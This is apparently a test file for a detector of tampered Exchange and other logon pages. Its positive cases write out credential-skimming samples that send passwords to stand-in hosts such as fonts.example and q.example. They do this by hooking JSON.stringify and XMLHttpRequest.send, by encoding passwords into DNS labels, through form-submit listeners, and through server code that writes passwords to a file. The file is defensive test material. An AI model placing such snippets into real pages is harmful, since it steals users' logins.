import detector from '../../../src/detectors/webshell/logon-page-capability.js';
import { fakeArtifact } from '../../helpers/detector-context.js';
import { testDetector } from '../../helpers/detector-tester.js';
import { inlinePage } from './inline-page.js';
import { webSample } from './web-sample.js';

const sample = webSample(detector.id);
const AUTH = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\';

const lying = (windowsPath: string) => ({ context: { artifact: fakeArtifact({ windowsPath }) } });
const page = lying(`${AUTH}logon.aspx`);
const script = lying(`${AUTH}15.1.2507\\scripts\\premium\\flogon.js`);
const application = lying('D:\\sites\\shop\\signin.html');

const FORM =
  '<form action="/owa/auth.owa" method="post" name="logonForm"><input id="username"><input id="password" type="password"></form>';
const logon = (markup: string) =>
  inlinePage(
    'aspx',
    `<%@ Page Language="C#" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n<html><body>${FORM}\n${markup}\n</body></html>`,
  );
const signIn = (code: string) =>
  inlinePage(
    'html',
    `<form action="/session" method="post"><input type="password" id="password"></form>\n<script>${code}</script>`,
  );

const known = {
  context: { artifact: fakeArtifact({ windowsPath: `${AUTH}logon.aspx` }), names: ['mail.corp.example'] },
};
const STATISTICS =
  'var u = "https://HOST/"; var g = document.createElement("script"); g.src = u + "matomo.js"; document.body.appendChild(g);';
const statistics = (host: string) => logon(`<script>${STATISTICS.replace('HOST', host)}</script>`);

const HOOK =
  '(function(J){var o=J.stringify;J.stringify=function(v){var r=o.apply(J,arguments);if(v&&v.password){(new Image).src="https://HOST/css?f="+encodeURIComponent(btoa(r))}return r}})(JSON);';
const SENDER =
  'XMLHttpRequest.prototype.send = function (body) { if (/password/.test(body)) navigator.sendBeacon("https://fonts.example/b", body); return sent.apply(this, arguments); };';
const vendor = {
  context: { artifact: fakeArtifact({ windowsPath: 'D:\\sites\\shop\\js\\vendor.js' }), names: ['shop.corp.example'] },
};
const resource = (text: string) =>
  inlinePage('resx', `<?xml version="1.0"?>\n<root>\n<data name="Help"><value>${text}</value></data>\n</root>`);
const TAKES =
  "document.addEventListener('submit',function(e){var f=e.target;fetch('https://help.example/q',{method:'POST',body:f.txtUser.value+'~'+f.txtPassword.value})},true)";

testDetector(detector, {
  hits: [
    {
      name: 'a host whose name is made of pieces of the password, which jQuery goes through',
      input: signIn(
        'function hex(s) { var r = ""; for (var i = 0; i < s.length; i++) r += s.charCodeAt(i).toString(16); return r; } function go() { var d = hex($("#password").val()).match(/.{1,60}/g); $.each(d, function (i, part) { new Image().src = "//" + i + "." + part + ".q.example/f"; }); }',
      ),
      ...application,
      detections: [{ message: 'sent', at: { line: 2 }, severity: 'high' }],
    },
    {
      name: 'functions that every script calls, replaced by ones that look for a password',
      input: inlinePage('js', `${HOOK.replace('HOST', 'fonts.example')}\n${SENDER}`),
      ...vendor,
      detections: [
        { message: 'sent', at: { line: 1 }, severity: 'high' },
        { message: 'sent', at: { line: 2 }, severity: 'high' },
      ],
    },
    {
      name: 'script in the text of a resource, which a page prints as it is',
      input: resource(`Questions?&lt;script&gt;${TAKES}&lt;/script&gt;`),
      ...lying('D:\\sites\\shop\\App_GlobalResources\\Login.resx'),
      detections: [{ message: 'sent', at: { line: 3 }, severity: 'high' }],
    },
    {
      name: 'statistics of a host of the company, and of others: of somebody, of the server itself, of a suffix that many share',
      input: statistics('stats.corp.example'),
      ...known,
      detections: [{ message: 'made', at: { line: 3 }, severity: 'low' }],
    },
    ...['stats.corp.example.net', 'mail.corp.example', 'statscorp.example'].map((host) => ({
      name: `statistics of ${host}, which is none of the company, or the server itself`,
      input: statistics(host),
      ...known,
      detections: [{ message: 'made' as const, at: { line: 3 }, severity: 'medium' as const }],
    })),
    {
      name: 'a challenge of a host of the company',
      input: logon('<script src="https://challenge.corp.example/v0/api.js"></script>'),
      ...known,
      detections: [{ message: 'loaded', at: { line: 3 }, severity: 'low' }],
    },
    {
      name: 'times of the page, sent to the site itself',
      input: logon(
        '<script>window.onload = function () { navigator.sendBeacon("/owa/plt1.ashx", JSON.stringify(performance.timing)); };</script>',
      ),
      ...known,
      detections: [{ message: 'channel', at: { line: 3 }, severity: 'low' }],
    },
    {
      name: 'what is typed, sent to a host of the company',
      input: logon(
        '<script>function s() { navigator.sendBeacon("https://stats.corp.example/b", document.getElementById("password").value); }</script>',
      ),
      ...known,
      detections: [
        { message: 'sent', at: { line: 3 }, severity: 'high' },
        { message: 'channel', at: { line: 3 }, severity: 'medium' },
      ],
    },
    {
      name: 'a worker that outlives the page',
      input: logon('<script>navigator.serviceWorker.register("/owa/auth/sw.js");</script>'),
      ...known,
      detections: [{ message: 'channel', at: { line: 3 }, severity: 'medium' }],
    },
    {
      name: 'server code that sends some visitors on to another host',
      input: logon(
        '<script runat="server">void Page_Load() { if (Request.Cookies["seen"] == null) Response.Redirect("https://mail.example/owa/?" + Request.QueryString); }</script>',
      ),
      ...page,
      detections: [{ message: 'retargeted', at: { line: 3 }, severity: 'high' }],
    },
    {
      name: 'in another application, a picture of a host whose name is made of the password',
      input: signIn(
        'function go() { new Image().src = "//" + document.getElementById("password").value + ".q.example/f"; }',
      ),
      ...application,
      detections: [{ message: 'sent', at: { line: 2 }, severity: 'high' }],
    },
    {
      name: 'password that a request of its own takes',
      input: sample('hit/flogon.js.split'),
      ...script,
      detections: [
        { message: 'sent', at: { line: 9 }, severity: 'high' },
        { message: 'channel', at: { line: 7 }, severity: 'medium' },
      ],
    },
    {
      name: 'a copy of the script, wherever it lies',
      input: sample('hit/flogon.js.split'),
      detections: [
        { message: 'sent', at: { line: 9 } },
        { message: 'channel', at: { line: 7 } },
      ],
    },
    {
      name: 'script of another host',
      input: logon('<script src="https://scripts.example/a.js"></script>'),
      ...page,
      detections: [{ message: 'loaded', at: { line: 3 }, severity: 'medium' }],
    },
    {
      name: 'visitors that are sent on to another host',
      input: logon('<meta http-equiv="refresh" content="0; url=https://mail.example/">'),
      ...page,
      detections: [{ message: 'retargeted', at: { line: 3 }, severity: 'medium' }],
    },
    {
      name: 'a class of an assembly that is none of the product’s',
      input: inlinePage('aspx', `<%@ Page Inherits="Microsoft.Exchange.HttpProxy.LogonEx, LogonEx" %>\n${FORM}`),
      ...page,
      detections: [{ message: 'class', at: { line: 1 }, severity: 'medium' }],
    },
    {
      name: 'form that goes to another host',
      input: logon('<script>document.logonForm.action = "https://mail.example/auth.owa";</script>'),
      ...page,
      detections: [
        {
          message: 'retargeted',
          at: { line: 3 },
          severity: 'high',
          data: { what: 'action', where: ' (mail.example)' },
        },
      ],
    },
    {
      name: 'server code that keeps what the form holds',
      input: logon('<% System.IO.File.AppendAllText(Server.MapPath("a.css"), Request.Form["password"]); %>'),
      ...page,
      detections: [{ message: 'reads', at: { line: 3 }, severity: 'high' }],
    },
    {
      name: 'server code that reads the form into something that is not followed',
      input: logon('<% Helper.Take(this.Context.Request.Form); %>'),
      ...page,
      detections: [{ message: 'reads', at: { line: 3 }, severity: 'medium' }],
    },
    {
      name: 'page that takes in a file, and one that runs another page',
      input: logon('<!--#include file="a.inc"-->\n<% Server.Execute("a.htm"); %>'),
      ...page,
      detections: [
        { message: 'loaded', at: { line: 3 }, severity: 'medium', confidence: 'weak' },
        { message: 'loaded', at: { line: 4 } },
      ],
    },
    {
      name: 'server code that writes a script of another host',
      input: logon('<% Response.Write("<script src=\'https://scripts.example/a.js\'></script>"); %>'),
      ...page,
      detections: [{ message: 'loaded', at: { line: 3 } }],
    },
    {
      name: 'password of any application, hidden in the address of a picture',
      input: signIn(
        'function s() { new Image().src = "https://pictures.example/?" + document.getElementById("password").value; }',
      ),
      ...application,
      detections: [{ message: 'sent', at: { line: 2 }, severity: 'high' }],
    },
    {
      name: 'script of Remote Desktop Web Access that sends its password away',
      input: inlinePage(
        'js',
        'function onSend() { navigator.sendBeacon("https://pictures.example/", document.getElementById("UserPass").value); return true; }',
      ),
      ...lying('C:\\Windows\\Web\\RDWeb\\Pages\\render.js'),
      detections: [{ message: 'sent', at: { line: 1 }, severity: 'high' }],
    },
    {
      name: 'password field that ASP.NET named after the controls around it, in a script of its own',
      input: inlinePage(
        'js',
        'function s() { new Image().src = "https://pictures.example/?" + document.getElementById("ctl00_MainContent_passwordTextBox").value; }',
      ),
      ...application,
      detections: [{ message: 'sent', at: { line: 1 }, severity: 'high' }],
    },
    {
      name: 'statistics that see no password are worth a look only',
      input: logon('<script>new Image().src = "https://stats.example/p.gif?" + escape(location.pathname);</script>'),
      ...page,
      detections: [{ message: 'channel', at: { line: 3 }, severity: 'low' }],
    },
    {
      name: 'captcha of a host that serves only its own script',
      input: logon('<script src="https://www.google.com/recaptcha/api.js"></script>'),
      ...page,
      detections: [{ message: 'loaded', at: { line: 3 }, severity: 'low' }],
    },
    {
      name: 'service for a second factor that is asked by name',
      input: logon(
        '<script>function ask() { var x = new XMLHttpRequest(); x.open("GET", "/mfa/state?u=" + document.getElementById("username").value); x.send(); }</script>',
      ),
      ...page,
      detections: [{ message: 'channel', at: { line: 3 }, severity: 'low' }],
    },
  ],
  misses: [
    {
      name: 'the form of Remote Desktop Web Access, which the server completes',
      looksAlike: true,
      input: inlinePage(
        'aspx',
        '<%@ Page Language="C#" %>\n<form id="FrmLogin" action="login.aspx<%=SecurityElement.Escape(back)%>" method="post"><input id="DomainUserName"><input id="UserPass" type="password"></form>',
      ),
      ...lying('C:\\Windows\\Web\\RDWeb\\Pages\\en-US\\login.aspx'),
    },
    {
      name: 'server code that sends visitors on within the server',
      looksAlike: true,
      input: logon(
        '<script runat="server">void Page_Load() { Response.Redirect("/owa/" + Request.QueryString); }</script>',
      ),
      ...page,
    },
    {
      name: 'script of Remote Desktop Web Access that looks whether a password was given',
      input: inlinePage(
        'js',
        'function onSubmit() { var field = document.getElementById("UserPass"); if (field.value.length == 0) { show("hint"); return false; } return true; }',
      ),
      ...lying('C:\\Windows\\Web\\RDWeb\\Pages\\render.js'),
      looksAlike: true,
    },
    {
      name: 'switch that shows what is typed into a field',
      input: inlinePage(
        'js',
        'function s() { new Image().src = "https://pictures.example/?" + document.getElementById("ctl00_MainContent_showPassword").value; }',
      ),
      ...application,
      looksAlike: true,
    },
    {
      name: 'a page that loads itself anew',
      input: logon('<meta http-equiv="refresh" content="600; url=logon.aspx?replaceCurrent=1">'),
      ...page,
      looksAlike: true,
    },
    {
      name: 'a class that is named with its assembly',
      input: inlinePage(
        'aspx',
        `<%@ Page Inherits="Microsoft.Exchange.HttpProxy.Logon, Microsoft.Exchange.FrontEndHttpProxy" %>\n${FORM}`,
      ),
      ...page,
      looksAlike: true,
    },
    {
      name: 'a function that is wrapped for the company’s own monitoring, and one that measures without looking for a password',
      input: inlinePage(
        'js',
        `${HOOK.replace('HOST', 'apm.corp.example')}\nvar f = window.fetch; window.fetch = function (u, o) { navigator.sendBeacon("https://apm.example/t", u); return f(u, o); };`,
      ),
      ...vendor,
      looksAlike: true,
    },
    {
      name: 'a function that is filled in for old browsers, beside a check of a password',
      input: inlinePage(
        'js',
        'if (!JSON.stringify) JSON.stringify = function (v) { return String(v); };\nfunction check(f) { return f.password.length > 7; }\nnew Image().src = "https://pixel.example/p.gif";',
      ),
      ...vendor,
      looksAlike: true,
    },
    {
      name: 'markup and script of a resource that go nowhere',
      input: resource(
        '&lt;b&gt;Help&lt;/b&gt;&lt;script&gt;document.getElementById("password").focus();&lt;/script&gt;',
      ),
      ...lying('D:\\sites\\shop\\App_GlobalResources\\Login.resx'),
      looksAlike: true,
    },
    {
      name: 'script of the product behind what the server fills in',
      input: logon('<script src="<%= ScriptFolder() %>flogon.js"></script>'),
      ...page,
      looksAlike: true,
    },
    { name: 'page of the product', input: sample('miss/logon.aspx'), ...page, looksAlike: true },
    { name: 'script of the product', input: sample('miss/flogon.js'), ...script, looksAlike: true },
    {
      name: 'logo and theme of the company',
      input: logon(
        '<link rel="stylesheet" href="https://www.example/theme.css"><a href="https://www.example/"><img src="https://www.example/logo.png"></a>',
      ),
      ...page,
      looksAlike: true,
    },
    {
      name: 'redirection to single sign-on',
      input: logon(
        '<script>if (!/local=1/.test(location.search)) location.replace("https://sso.example/?wa=wsignin1.0");</script>',
      ),
      ...page,
      looksAlike: true,
    },
    {
      name: 'page that asks for a new password',
      input: inlinePage(
        'aspx',
        '<script>function check() { var a = gbid("newPwd1"), b = gbid("newPwd2"); if (a.value != b.value || a.value.length == 0) { a.value = ""; a.focus(); return false; } document.forms[0].submit(); }</script><form action="" method="post"><input type="password" id="newPwd1"><input type="password" id="newPwd2"></form>',
      ),
      ...lying(`${AUTH}expiredpassword.aspx`),
      looksAlike: true,
    },
    {
      name: 'theme script of AD FS that accepts names without a domain',
      input: inlinePage(
        'js',
        'Login.submitLoginRequest = function () { var user = document.getElementById(Login.userNameInput); var password = document.getElementById(Login.passwordInput); if (!password.value) { new InputUtil().setError(password, new LoginErrors().passwordEmpty); return false; } user.value = "contoso\\\\" + user.value; document.forms["loginForm"].submit(); return false; };',
      ),
      ...lying('C:\\themes\\adfs\\script\\onload.js'),
      looksAlike: true,
    },
    {
      name: 'application that asks its own service whether the password is right',
      input: signIn(
        'fetch("https://api.shop.example/session", { method: "POST", body: JSON.stringify({ password: document.getElementById("password").value }) }); new Image().src = "https://stats.example/p.gif";',
      ),
      ...application,
      looksAlike: true,
    },
    {
      name: 'application that asks for statistics beside its logon form',
      input: signIn(
        'var i = document.createElement("script"); i.src = "https://stats.example/a.js"; document.head.appendChild(i);',
      ),
      ...application,
      looksAlike: true,
    },
  ],
});
